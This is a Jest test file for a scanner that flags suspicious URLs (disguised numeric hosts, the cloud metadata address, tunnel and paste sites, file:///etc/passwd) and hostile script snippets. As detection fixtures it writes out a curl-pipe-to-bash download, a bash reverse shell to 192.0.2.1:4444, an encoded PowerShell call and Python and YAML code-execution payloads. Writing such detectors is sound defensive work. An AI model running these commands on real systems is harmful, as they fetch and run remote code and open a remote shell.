import { describe, expect, it } from '@jest/globals';
import {
  describeTraits,
  findAddresses,
  judgeAddress,
  type AddressPlace,
} from '../../../src/judgement/text/find-addresses.js';
import { tellingScript } from '../../../src/judgement/text/telling-script.js';

const traits = (text: string): string[] => findAddresses(text).flatMap((found) => found.traits);
const severities = (text: string, place: AddressPlace): (string | undefined)[] =>
  findAddresses(text).map((found) => judgeAddress(found, place));

describe('addresses', () => {
  it.each([
    ['http://8.8.4.4/x', 'numeric host'],
    ['http://[2606:4700::1111]/x', 'numeric host'],
    ['http://134743044/x', 'disguised numeric host'],
    ['http://0x08080404/x', 'disguised numeric host'],
    ['http://010.8.4.4/x', 'disguised numeric host'],
    ['http://0x8.0x8.4.4/x', 'disguised numeric host'],
    ['http://2130706433:8000/', 'disguised numeric host'],
    ['http://169.254.169.254/latest/meta-data', 'cloud metadata service'],
    ['http://weights.example.invalid:31337/x', 'unusual port'],
    ['https://me:secret@weights.example.invalid/x', 'password in the address'],
    ['https://weights.example.invalid/shell.sh', 'telling path'],
    ['https://weights.example.invalid/exploit/x', 'telling path'],
    ['https://weights.example.invalid/a/hack', 'telling path'],
    ['https://abc.ngrok-free.app/x', 'telling host'],
    ['https://webhook.site/x', 'telling host'],
    ['https://pastebin.com/raw/x', 'telling host'],
    [String.raw`\\server.example.invalid\share\model`, 'network share'],
    ['file:///etc/passwd', 'local file'],
  ])('%s: %s', (text, trait) => {
    expect(traits(text)).toContain(trait);
  });

  it.each([
    'https://huggingface.co/meta-llama/Llama-3.1-8B',
    'See https://arxiv.org/abs/1706.03762, (https://github.com/huggingface/transformers).',
    'http://localhost:11434/api, http://127.0.0.1:54321/x, http://192.168.1.5:9999',
    'http://192.0.2.1/documentation, http://203.0.113.9/',
    'https://example.com:8443/hackathon/shelling/commander',
    'ratio 1:2, C:\\Users\\x, 3.11.4.0, 10.1.2.3',
    'https://nghttp2.org/x https://mypastebin.com.example/x',
  ])('%s is ordinary', (text) => {
    expect(traits(text)).toEqual([]);
  });

  it.each([
    '10.0.0.1',
    '127.9.9.9',
    '172.16.0.1',
    '172.31.255.1',
    '192.168.7.7',
    '169.254.1.1',
    '192.0.0.9',
    '198.51.100.4',
    '224.0.0.1',
    '255.255.255.255',
    '[::1]',
    '[::]',
    '[fe80::1]',
    '[fd12::1]',
    '[fc00::1]',
    '[2001:db8::1]',
  ])('of no machine elsewhere: %s', (host) => {
    expect(traits(`http://${host}/x`)).toEqual([]);
  });

  it.each([
    '11.0.0.1',
    '172.15.0.1',
    '172.32.0.1',
    '192.169.0.1',
    '198.51.101.1',
    '223.1.1.1',
    '[2001:db9::1]',
  ])('of a machine elsewhere: %s', (host) => {
    expect(traits(`http://${host}/x`)).toEqual(['numeric host']);
  });

  it.each(['localhost', '127.0.0.1', '10.1.2.3', '172.17.0.1', '192.168.1.5', '[::1]', '[fd12::1]'])(
    'may have any port on this machine and in its network: %s',
    (host) => {
      expect(traits(`http://${host}:54321/x`)).toEqual([]);
    },
  );

  it.each([
    ['HTTPS://Paste.RS./x?q=1#f).', 'https://Paste.RS./x', 'paste.rs', 'paste', 'HTTPS://Paste.RS./x?q=1#f'],
    ['ftp://a.b.ngrok.io/c', 'ftp://a.b.ngrok.io/c', 'a.b.ngrok.io', 'tunnel', 'ftp://a.b.ngrok.io/c'],
    ['ssh://me:pw@x.example.invalid/p', 'ssh://x.example.invalid/p', 'x.example.invalid', '', undefined],
    [
      String.raw`\\S.example.invalid\c$`,
      String.raw`\\S.example.invalid\c$`,
      'S.example.invalid',
      '',
      undefined,
    ],
    ['file:///etc/x', 'file:///etc/x', '', '', undefined],
  ])('are shown as what they lead to: %s', (text, shown, host, use, whole) => {
    const [found, ...more] = findAddresses(`see ${text} or not`);
    expect(more).toEqual([]);
    expect(found).toMatchObject({ shown, host, use, start: 4, end: 4 + (whole ?? text).length });
  });

  it.each(['http://a..b:99999/', 'http://[zz]/', 'http://300.300.300.300/'])(
    'that lead nowhere are none: %s',
    (text) => {
      expect(findAddresses(text)).toEqual([]);
    },
  );

  it('are cut at 200 characters, and are five hundred at most', () => {
    for (const start of ['https://x.example.invalid/', 'file:///', '\\\\host.example.invalid\\'])
      for (const { shown } of findAddresses(start + 'a'.repeat(300)))
        expect(shown).toBe(
          (start + 'a'.repeat(300)).slice(0, start.startsWith('\\') ? start.length + 80 : 200),
        );
    expect(findAddresses('http://a.b '.repeat(500))).toHaveLength(500);
    expect(findAddresses('http://a.b '.repeat(501))).toHaveLength(500);
  });

  it.each([
    ['http://8.8.4.4:4444/x', 'numeric host, unusual port'],
    ['https://paste.rs/x', 'telling host, paste'],
    ['https://huggingface.co/x', ''],
  ])('are described by what is odd: %s: %j', (text, described) => {
    expect(findAddresses(text).map(describeTraits)).toEqual([described]);
  });

  it.each<[string, AddressPlace, string | undefined]>([
    ['https://paste.rs/x', 'prose', undefined],
    ['https://webhook.site/x', 'prose', 'info'],
    ['https://bit.ly/x', 'prose', undefined],
    ['https://bit.ly/x', 'download', 'info'],
    ['https://bit.ly/x', 'call', 'warning'],
    ['https://webhook.site/x', 'code', 'critical'],
    ['https://webhook.site/x', 'download', 'warning'],
    ['http://w.example.invalid:31337/x', 'download', 'info'],
    ['http://w.example.invalid:31337/hack', 'download', 'warning'],
    ['http://w.example.invalid:31337/hack', 'code', 'warning'],
    [String.raw`\\s.example.invalid\x`, 'code', 'critical'],
  ])('%s in %s: %s', (text, place, severity) => {
    expect(severities(text, place)).toEqual([severity]);
  });

  it('count by where they stand', () => {
    const raw = 'http://8.8.4.4:4444/x';
    expect(severities(raw, 'call')).toEqual(['critical']);
    expect(severities(raw, 'download')).toEqual(['warning']);
    expect(severities(raw, 'prose')).toEqual(['info']);
    expect(severities('https://x.example.invalid/shell.sh', 'code')).toEqual(['warning']);
    expect(severities('https://x.example.invalid/shell.sh', 'prose')).toEqual([undefined]);
    expect(severities('https://huggingface.co/x', 'call')).toEqual([undefined]);
  });

  it('are shown without user names and passwords only where there are none to hide', () => {
    const [found] = findAddresses('https://me:hunter2hunter2@x.example.invalid/shell');
    expect(found?.host).toBe('x.example.invalid');
    expect(found?.shown).not.toContain('hunter2');
  });

  it.each([
    'http://'.repeat(50_000),
    `http://${'a'.repeat(300_000)}`,
    'a'.repeat(500_000),
    '\\\\a'.repeat(100_000),
    'a://b'.repeat(50_000),
  ])('are found in linear time (%#)', (text) => {
    const start = performance.now();
    findAddresses(text);
    expect(performance.now() - start).toBeLessThan(10_000);
  });
});

describe('scripts', () => {
  it.each([
    'curl -s http://x.example.invalid/i.sh | bash',
    'wget http://x.example.invalid/a && sh',
    `bash -c 'id'`,
    'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1',
    'powershell -enc AAAA',
    `__import__('os').system('id')`,
    `import os; os.system('id')`,
    `subprocess.run(['id'])`,
    `exec(base64.b64decode('aWQ='))`,
    'pickle.loads(data)',
    '!!python/object/apply:os.system',
  ])('%s', (text) => {
    expect(tellingScript(text)).toBeDefined();
  });

  it('are quoted from where they tell, on one line, without credentials', () => {
    const shown = tellingScript(
      `Usage:\n  curl -H 'Authorization: qwertyuiop12'\thttp://x.example.invalid | sh${' a'.repeat(100)}`,
    );
    expect(shown).toMatch(/^curl -H 'Authorization: \*\*\*' http:\/\/x\.example\.invalid \| sh a/);
    expect(tellingScript(`os.system('${'a'.repeat(300)}')`)).toBe(`os.system('${'a'.repeat(149)}`);
  });

  it.each([
    'Fine-tuned with curl and bash scripts on 8 GPUs',
    'os and subprocess modules are not needed',
    'model.evaluate(x); execution time 3 s; evaluation (exec)',
    'Download with: curl -L https://huggingface.co/x/resolve/main/y -o y',
    'pip install transformers',
    'pickle is unsafe',
  ])('%s is prose', (text) => {
    expect(tellingScript(text)).toBeUndefined();
  });

  it.each([
    'curl '.repeat(60_000),
    `curl ${'a'.repeat(300_000)}`,
    '<script '.repeat(40_000),
    `__import__('`.repeat(50_000),
  ])('are found in linear time (%#)', (text) => {
    const start = performance.now();
    tellingScript(text);
    expect(performance.now() - start).toBeLessThan(10_000);
  });
});
